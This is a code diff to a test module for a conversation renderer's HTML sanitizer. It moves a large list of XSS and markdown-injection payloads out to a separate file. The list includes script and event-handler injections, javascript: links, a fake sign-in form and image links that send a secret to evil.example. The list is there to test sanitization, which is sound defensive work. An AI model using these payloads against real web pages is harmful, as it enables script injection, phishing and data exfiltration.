@@ -7,8 +7,9 @@ from conversations.rendering.cleaning import clean
 from conversations.rendering.markdown import blocks
 from conversations.rendering.plain import plain
 from conversations.rendering.tree import from_text, tree
+from tests.rendering.attacks import ATTACKS
 from tests.rendering.document import Document
-from tests.rendering.test_stream import markdown
+from tests.rendering.nasty import markdown
 
 TAGS = {
     *(
@@ -65,83 +66,6 @@ ATTRIBUTES = {
     *("checked", "aria-label", "role", "tabindex", "start"),
 }
 CLASSES = {"code", "copy", "table", None}
-
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<script src=//evil.example/x.js>",
-    "text <script>alert(1)</script> text",
-    "<img src=x onerror=alert(1)>",
-    "text <img src=x onerror=alert(1)> text",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<b onmouseover=alert(1)>x</b>",
-    "a <b onmouseover=alert(1)>x</b>",
-    "a <a href='javascript:alert(1)'>x</a>",
-    "<style>body{display:none}</style>",
-    "a <p style='position:fixed;inset:0'>x</p>",
-    "<iframe src=https://evil.example></iframe>",
-    "<object data=x></object><embed src=x>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
-    "<input autofocus onfocus=alert(1)>",
-    "<textarea>",
-    "<plaintext>",
-    "<xmp>",
-    "<title>",
-    "<!-- ",
-    "<![CDATA[",
-    "<?php",
-    "</div></div></article></main></body>",
-    "a </div></div></p></article>",
-    "</code></pre></div><script>alert(1)</script>",
-    "```\n</code></pre></div><script>alert(1)</script>\n```",
-    '```x"><script>alert(1)</script>\ncode\n```',
-    '```" onclick="alert(1)\ncode\n```',
-    "`</code><script>alert(1)</script>`",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java&#x09;script:alert(1))",
-    "[x](<java\tscript:alert(1)>)",
-    "[x](&#106;avascript&colon;alert(1))",
-    "[x](&#1;javascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](//evil.example)",
-    "[x](/admin/logout)",
-    "[x](\\\\evil.example)",
-    "[x](file:///etc/passwd)",
-    "[x](blob:https://evil.example/1)",
-    '[x](https://a.example/"onmouseover="alert(1))',
-    "[x](https://a.example \"' onmouseover='alert(1)\")",
-    "[x](https://a.example '\" onmouseover=\"alert(1)')",
-    "<javascript:alert(1)>",
-    "<data:text/html,x>",
-    "![x](https://evil.example/?q=secret)",
-    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
-    '![x" onerror="alert(1)](https://evil.example/)',
-    "[![x](https://evil.example/?q=secret)](https://a.example)",
-    "[x]\n\n[x]: javascript:alert(1)",
-    "![x]\n\n[x]: https://evil.example/?q=secret",
-    'https://a.example/"onmouseover="alert(1)',
-    "https://a.example/<script>alert(1)</script>",
-    "# <img src=x onerror=alert(1)>",
-    "| <script> | b |\n|---|---|\n| </table><script>alert(1)</script> | <td onclick=x> |",
-    "a <table><tr><td> b",
-    "- <div>\n- </ul></li>\n",
-    "> </blockquote><script>alert(1)</script>",
-    "<b><i><u>never closed",
-    "a <b><i><u>never closed",
-    "a <kbd>b\n\n</kbd> c",
-    '# x {#id .class onclick="alert(1)"}',
-    "\0<script\0>alert(1)</script>",
-    "＜script＞alert(1)＜/script＞",
-]
 
 
 def assert_harmless(html: str) -> None:
